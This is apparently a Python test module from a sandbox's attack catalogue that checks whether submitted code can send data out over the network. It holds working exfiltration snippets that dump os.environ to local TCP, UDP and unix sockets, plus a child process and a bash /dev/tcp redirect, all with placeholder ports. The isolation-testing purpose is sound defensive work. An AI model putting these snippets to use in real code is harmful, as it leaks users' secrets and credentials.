"""Network: send secrets away, fetch answers, talk to what listens on the machine."""

from tests.attacks.catalogue import HARMS, attack


@attack("Send what can be found to a server, by TCP, UDP, and unix sockets.", plain=HARMS,
        alone=False)  # fmt: skip
def sends_secrets_away(sub):
    sub.answer(
        "ranked",
        """
        import os, socket

        _secret = ("$MARK " + str(dict(os.environ))[::-1]).encode()
        for _family, _kind, _address in (
            (socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", $PORT)),
            (socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", $PORT)),
            (socket.AF_UNIX, socket.SOCK_STREAM, "$SOCKET"),
            (socket.AF_UNIX, socket.SOCK_STREAM, chr(0) + "$RUN"),
            (socket.AF_INET6, socket.SOCK_STREAM, ("::ffff:127.0.0.1", $PORT)),
        ):
            try:
                with socket.socket(_family, _kind) as _connection:
                    _connection.settimeout(1)
                    _connection.connect(_address)
                    _connection.sendall(_secret)
            except OSError:
                pass

        def ranked(values):
            try:
                with socket.create_connection(("127.0.0.1", $PORT), timeout=1) as connection:
                    connection.sendall(f"$MARK-test {values}".encode())
            except OSError:
                pass
            return values
    """,
    )


@attack("Let another program do the talking: a child process, and a raw socket.", plain=HARMS,
        alone=False)  # fmt: skip
def sends_through_a_child(sub):
    sub.last_cell("""
        import socket, subprocess, sys
        code = '''if True:
            import socket
            socket.create_connection(("127.0.0.1", $PORT), timeout=1).sendall(b"$MARK")
        '''
        subprocess.run([sys.executable, "-I", "-c", code], stderr=subprocess.DEVNULL, timeout=4)
        subprocess.run(["bash", "-c", "echo $MARK > /dev/tcp/127.0.0.1/$PORT"],
                       stderr=subprocess.DEVNULL, timeout=4)
    """)
